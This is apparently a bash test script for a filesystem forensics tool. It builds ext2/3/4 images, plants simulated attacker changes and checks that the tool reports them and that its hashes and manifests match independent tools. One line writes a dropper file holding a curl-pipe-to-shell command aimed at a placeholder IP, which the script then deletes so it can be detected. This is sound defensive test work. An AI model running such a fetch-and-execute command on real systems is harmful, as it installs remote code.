#!/usr/bin/env bash
# ext2/ext3/ext4 variants built by mkfs -d from a known tree, then the
# attacker's known changes: the report finds exactly those; the manifest
# agrees with the kernel's read-only view; the device hash with sha256sum;
# the hashdeep list with hashdeep's own audit.
source "$(dirname "$0")/lib.sh"
make_tree "$WORK/tree"

variant() {
  local name=$1; shift
  local img=$WORK/$name.img evil=$WORK/$name-evil.img
  truncate -s 48M "$img"
  mkfs.ext4 -q -F "$@" -d "$WORK/tree" "$img"
  "$SG" forensics baseline --device "$img" --out "$WORK/$name.base.jsonl" >"$WORK/$name.base.out" \
    || { fail "$name: baseline"; return; }
  cp --sparse=always "$img" "$evil"
  mount_rw "$evil" "$WORK/mnt-$name"
  apply_changes "$WORK/mnt-$name"
  local expected=$EXPECTED_CHANGES
  if [ "$name" == ext4-plain ]; then
    # a dropper written then deleted, and a key file deleted, by e2fsprogs
    # (the kernel wipes deleted names; debugfs leaves them for libtsk to see)
    echo 'curl http://203.0.113.10/x | sh' > "$WORK/mnt-$name/tmp/dropper.sh"
    unmount "$WORK/mnt-$name"
    debugfs -w -R "rm /tmp/dropper.sh" "$evil" 2>/dev/null
    debugfs -w -R "rm /home/u/.ssh/authorized_keys" "$evil" 2>/dev/null
    expected+=$'\ndeleted_in_image /tmp/dropper.sh\nremoved /home/u/.ssh/authorized_keys'
  else
    unmount "$WORK/mnt-$name"
  fi
  local out=$WORK/out-$name
  "$SG" forensics examine --device "$evil" --baseline "$WORK/$name.base.jsonl" --out "$out" \
    --custody-log "$WORK/custody.log" >"$WORK/$name.result" 2>"$WORK/$name.err" \
    || { fail "$name: examine exited $?"; cat "$WORK/$name.err" >&2; return; }
  expect_findings "$name" "$out/report.json" "$expected"
  check "$name: journal state is reported" test -n "$(jget "$out/report.json" 'r["evidence"][0]["filesystems"][0]["journal"]')"
  check "$name: method is libtsk, no mount" test "$(jget "$out/report.json" 'r["evidence"][0]["filesystems"][0]["method"]')" == libtsk-raw
  local devsum; devsum=$(sha256sum "$evil" | cut -d' ' -f1)
  check "$name: acquisition hash equals sha256sum" test "$(jget "$out/report.json" 'r["evidence"][0]["sha256"]')" == "$devsum"
  check "$name: result line names the report and its hash" test "$(jline 'r["report_sha256"]' <"$WORK/$name.result")" == "$(sha256sum "$out/report.json" | cut -d' ' -f1)"
  check "$name: file list and sizes agree with fiwalk" $PY "$HERE/fiwalk_check.py" "$evil" "$out/$name-evil.img/manifest.jsonl"
  mount_ro "$evil" "$WORK/ro-$name" ext4
  check "$name: manifest agrees with the kernel's view" $PY "$HERE/crosscheck.py" "$out/$name-evil.img/manifest.jsonl" "$WORK/ro-$name"
  ( cd "$WORK/ro-$name" && hashdeep -o f -c sha256 -a -k "$out/$name-evil.img/manifest.hashdeep" -r -l . ) >"$WORK/$name.audit" 2>&1 || true
  check "$name: hashdeep -a -k audits with our list" grep -q "Audit passed" "$WORK/$name.audit"
  unmount "$WORK/ro-$name"
  rm -f "$img" "$evil"
}

# The hashing engine and the thread count change nothing: the two-lane
# SHA-NI pool, OpenSSL alone, one worker and none give the same manifest.
engines() {
  local img=$WORK/engines.img ref=
  truncate -s 48M "$img"
  mkfs.ext4 -q -F -d "$WORK/tree" "$img"
  head -c 3000000 /dev/urandom > "$WORK/big.bin"
  mount_rw "$img" "$WORK/mnt-engines"
  cp "$WORK/big.bin" "$WORK/mnt-engines/big.bin"
  unmount "$WORK/mnt-engines"
  for how in "--workers 2" "--workers 2 --openssl-only" "--workers 1" "--workers 0" "--workers 0 --openssl-only"; do
    # shellcheck disable=SC2086
    "$SG" forensics baseline --device "$img" --out "$WORK/engines.jsonl" $how >/dev/null 2>&1 \
      || { fail "engines: baseline $how"; continue; }
    if [ -z "$ref" ]; then
      ref=$(cat "$WORK/engines.jsonl")
      check "engines: the large file's hash is sha256sum's" grep -q "$(sha256sum < "$WORK/big.bin" | cut -d' ' -f1)" "$WORK/engines.jsonl"
    else
      check "engines: $how gives the same manifest" test "$(cat "$WORK/engines.jsonl")" == "$ref"
    fi
  done
  rm -f "$img" "$WORK/big.bin"
}
engines

variant ext2          -t ext2
variant ext3          -t ext3
variant ext4-plain    -t ext4 -O ^64bit,^metadata_csum
variant ext4-csum64   -t ext4 -O 64bit,metadata_csum
variant ext4-small-inodes -t ext4 -I 128

# the deleted name of the removed key file is still visible (libtsk) and tied to it
check "ext4: removed file carries its deleted trace" test "$(jget "$WORK/out-ext4-plain/report.json" \
  '[f for f in r["evidence"][0]["findings"] if f["path"].endswith("authorized_keys")][0].get("trace",{}).get("deleted")')" == True
check "custody log of all runs verifies" "$SG" forensics verify-log "$WORK/custody.log"
finish
